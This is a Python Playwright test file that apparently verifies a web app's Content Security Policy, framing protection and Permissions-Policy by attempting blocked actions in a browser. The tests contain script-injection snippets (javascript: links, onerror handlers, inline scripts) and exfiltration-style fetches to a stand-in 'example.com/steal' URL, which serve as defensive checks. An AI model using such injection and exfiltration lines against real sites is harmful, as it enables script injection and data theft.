"""The production policy is live in every browser test, and the guard notices when it bites.

Each test here breaks a rule on purpose and then checks two things: the browser refused, and the
conftest guard recorded it (so any real violation elsewhere in the suite fails that test). The
expected problems are then taken off the guard's list so this test itself passes.
"""

import pytest
from conftest import engine_ready
from test_headers import CSP, expected_headers, parse_csp

pytestmark = pytest.mark.browser


# Chromium's own report of a blocked action; report-csp.js adds "CSP violation: <directive>".
BROWSER_WORDS = ("Content Security Policy", "Refused to")


def take(guard, needle, *also):
    """Remove and return the guard's problems that mention needle (or any of also)."""
    hits = [p for p in guard.problems if needle in p]
    guard.problems[:] = [p for p in guard.problems if not any(n in p for n in (needle, *also))]
    return hits


def wait_for_problem(page, guard, needle):
    # Console events arrive asynchronously; wait on the guard's list rather than sleeping.
    for _ in range(50):
        if any(needle in p for p in guard.problems):
            return
        page.evaluate("() => new Promise((r) => requestAnimationFrame(() => setTimeout(r, 0)))")
    raise AssertionError(f"the guard never saw {needle!r}: {guard.problems}")


def test_pages_arrive_with_the_production_headers(page):
    response = page.goto("index.html")
    headers = response.all_headers()
    for name, value in expected_headers("/index.html").items():
        assert headers.get(name) == value, name
    assert parse_csp(headers["content-security-policy"]) == CSP


def test_strings_never_become_code(page, guard):
    # (Playwright's own evaluate is exempt from the eval check, so the page's timers and links are used.)
    page.goto("index.html")
    ran = page.evaluate("""() => new Promise((r) => {
        setTimeout('window.__pwned = 1', 0);
        const a = document.createElement('a');
        a.href = 'javascript:window.__pwned = 2';
        document.body.append(a);
        a.click();
        setTimeout(() => r(window.__pwned ?? null), 50);
    })""")
    assert ran is None
    wait_for_problem(page, guard, "CSP violation: script-src")
    assert take(guard, "CSP violation: script-src", *BROWSER_WORDS)


def test_injected_inline_script_does_not_run(page, guard):
    page.goto("index.html")
    ran = page.evaluate("""() => {
        const s = document.createElement('script');
        s.textContent = 'window.__pwned = 1';
        document.body.append(s);
        const img = document.createElement('img');
        img.setAttribute('onerror', 'window.__pwned = 2');
        img.src = 'missing.png';
        document.body.append(img);
        return new Promise((r) => img.addEventListener('error', () => setTimeout(() => r(window.__pwned ?? null), 50)));
    }""")
    assert ran is None
    wait_for_problem(page, guard, "CSP violation: script-src")
    assert take(guard, "CSP violation", *BROWSER_WORDS)
    take(guard, "404")  # the deliberately missing image


def test_inline_styles_are_refused_but_classes_work(page, guard):
    page.goto("index.html")
    colour = page.evaluate("""() => {
        const p = document.createElement('p');
        p.setAttribute('style', 'color: rgb(255, 0, 0)');
        const st = document.createElement('style');
        st.textContent = 'p { color: rgb(0, 255, 0) !important }';
        document.head.append(st);
        document.body.append(p);
        return getComputedStyle(p).color;
    }""")
    assert colour not in ("rgb(255, 0, 0)", "rgb(0, 255, 0)")
    wait_for_problem(page, guard, "CSP violation: style-src")
    assert take(guard, "CSP violation: style-src", *BROWSER_WORDS)


def test_nothing_can_reach_another_origin(page, guard):
    page.goto("index.html")
    result = page.evaluate("""async () => {
        const out = {};
        try { await fetch('https://example.com/steal?d=1'); out.fetch = 'sent' } catch (e) { out.fetch = e.name }
        const img = new Image();
        out.img = await new Promise((r) => { img.onload = () => r('loaded'); img.onerror = () => r('blocked'); img.src = 'https://example.com/p.gif'; });
        const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], {type: 'text/javascript'})));
        out.worker = await new Promise((r) => { w.onmessage = () => r('ran'); w.onerror = () => r('blocked'); });
        return out;
    }""")
    assert result == {"fetch": "TypeError", "img": "blocked", "worker": "blocked"}
    wait_for_problem(page, guard, "CSP violation: worker-src")
    assert take(guard, "CSP violation: connect-src")
    assert take(guard, "CSP violation: img-src")
    assert take(guard, "CSP violation: worker-src")
    # Playwright reports the image as a request that failed before it left the browser; the guard flags it.
    blocked = [r for r in guard.requests if r.url.startswith("https://example.com")]
    assert blocked and all(r.failure == "csp" for r in blocked)
    assert take(guard, "request to another origin", *BROWSER_WORDS)


def test_forms_cannot_submit(page, guard):
    page.goto("index.html")
    page.evaluate("""() => {
        const f = document.createElement('form');
        f.action = 'index.html'; f.method = 'get';
        const i = document.createElement('input'); i.name = 'q'; i.value = 'secret';
        f.append(i); document.body.append(f); f.submit();
    }""")
    wait_for_problem(page, guard, "CSP violation: form-action")
    assert take(guard, "CSP violation: form-action", *BROWSER_WORDS, "form data")
    assert "q=secret" not in page.url


def test_the_app_cannot_be_framed(page, guard, site_url):
    # about:blank has no policy of its own, so only our headers can stop the frame.
    page.set_content(f'<iframe src="{site_url}index.html"></iframe>')
    frame = page.frames[1]
    frame.wait_for_load_state()
    assert frame.evaluate("() => document.querySelector('#quick-exit')") is None
    take(guard, "frame")
    take(guard, "Refused")


def test_the_engine_worker_runs_under_the_policy_and_is_watched(page, guard, site_dir):
    if not (site_dir / "worker" / "engine-worker.js").exists():
        pytest.skip("the engine worker is not built yet (issue 4)")
    page.goto("worksheet.html")
    engine_ready(page)
    assert page.workers, "the engine runs in a Web Worker"
    worker = page.workers[0]
    got = worker.evaluate("""async () => {
        const out = {};
        try { await fetch('https://example.com/steal'); out.fetch = 'sent' } catch (e) { out.fetch = e.name }
        return out;
    }""")
    assert got["fetch"] == "TypeError"
    wait_for_problem(page, guard, "CSP violation: connect-src")
    assert take(guard, "CSP violation: connect-src", *BROWSER_WORDS)
    take(guard, "CSP violation: script-src")


def test_the_browser_reads_the_headers_cleanly_and_switches_features_off(page):
    warnings = []
    page.on("console", lambda m: warnings.append(m.text) if m.type in ("warning", "error") else None)
    page.goto("worksheet.html")
    allowed = page.evaluate("""() => Object.fromEntries(
        ['camera', 'microphone', 'geolocation', 'payment', 'usb', 'browsing-topics', 'clipboard-write']
        .map((f) => [f, document.featurePolicy.allowsFeature(f)]))""")
    assert allowed == {"camera": False, "microphone": False, "geolocation": False, "payment": False, "usb": False,
                       "browsing-topics": False, "clipboard-write": True}  # (Linux Chromium has no Web Share to test)
    assert not [w for w in warnings if "Permissions-Policy" in w or "Content Security Policy" in w], warnings
